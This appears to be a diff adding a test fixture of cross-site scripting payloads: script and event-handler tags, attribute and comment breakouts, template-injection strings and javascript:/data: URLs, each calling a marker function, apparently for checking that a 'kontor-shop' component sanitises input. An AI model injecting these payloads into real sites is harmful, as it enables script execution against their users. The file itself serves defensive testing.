@@ -1,0 +1,97 @@
+/** Runs when a text becomes markup or script somewhere. */
+const run = 'kontorRan()';
+
+const tags = [
+  `<script>${run}</script>`,
+  `<script src="data:text/javascript,${run}"></script>`,
+  `<script type=module>${run}</script>`,
+  `<SCRIPT>${run}</SCRIPT>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `<img src=x onerror=${run}>`,
+  `<img src=x onerror="${run}"//`,
+  `<img/src=x/onerror=${run}>`,
+  `<IMG SRC=x ONERROR=${run}>`,
+  `<image src=x onerror=${run}>`,
+  `<svg onload=${run}>`,
+  `<svg/onload=${run}//`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${run}"><text x=0 y=20>x</text></a></svg>`,
+  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
+  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
+  `<video src=x onerror=${run}></video>`,
+  `<video><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}></audio>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<details open ontoggle=${run}><summary>x</summary></details>`,
+  `<input autofocus onfocus=${run}>`,
+  `<select autofocus onfocus=${run}></select>`,
+  `<textarea autofocus onfocus=${run}></textarea>`,
+  `<marquee onstart=${run}>x</marquee>`,
+  `<body onload=${run}>`,
+  `<div style="animation-name:x" onanimationstart=${run}></div>`,
+  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}></b>`,
+  `<style>*{background:url("javascript:${run}")}</style>`,
+  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  `<base href="javascript:/a/-${run}//">`,
+  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
+  `<button formaction="javascript:${run}">x</button>`,
+  `<a href="javascript:${run}">x</a>`,
+  `<a href="data:text/html,<script>opener.${run}</script>">x</a>`,
+  `<template><img src=x onerror=${run}></template>`,
+  `<slot onslotchange=${run}></slot>`,
+  `<kontor-shop base-url="javascript:${run}"></kontor-shop>`,
+];
+
+const breakouts = [
+  `"><img src=x onerror=${run}>`,
+  `'><img src=x onerror=${run}>`,
+  `\`><img src=x onerror=${run}>`,
+  `" onmouseover=${run} autofocus onfocus=${run} x="`,
+  `' onfocus='${run}' autofocus='`,
+  `--><img src=x onerror=${run}>`,
+  `]]><img src=x onerror=${run}>`,
+  `</style><img src=x onerror=${run}>`,
+  `</textarea><img src=x onerror=${run}>`,
+  `</title><img src=x onerror=${run}>`,
+  `</template><img src=x onerror=${run}>`,
+  `</script><script>${run}</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<!--><img src=x onerror=${run}>`,
+  `<![CDATA[><img src=x onerror=${run}>]]>`,
+  `&lt;img src=x onerror=${run}&gt;`,
+  `&#60;img src=x onerror=${run}&#62;`,
+  `\u003cimg src=x onerror=${run}\u003e`,
+  `<\u0000img src=x onerror=${run}>`,
+  `\u202e<img src=x onerror=${run}>`,
+];
+
+const templates = [
+  `\${${run}}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `<!--?lit$1$--><img src=x onerror=${run}>`,
+  `{{lit-123}}<img src=x onerror=${run}>`,
+  `';${run};'`,
+  `";${run};"`,
+  `__proto__`,
+  `constructor`,
+];
+
+/** Each is the beginning of a text. */
+export const payloads: readonly string[] = [...tags, ...breakouts, ...templates];
+
+/** Each is a whole address. */
+export const addresses: readonly string[] = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `java\tscript:${run}`,
+  ` javascript:${run}`,
+  `javascript://%0a${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
+  `vbscript:${run}`,
+];
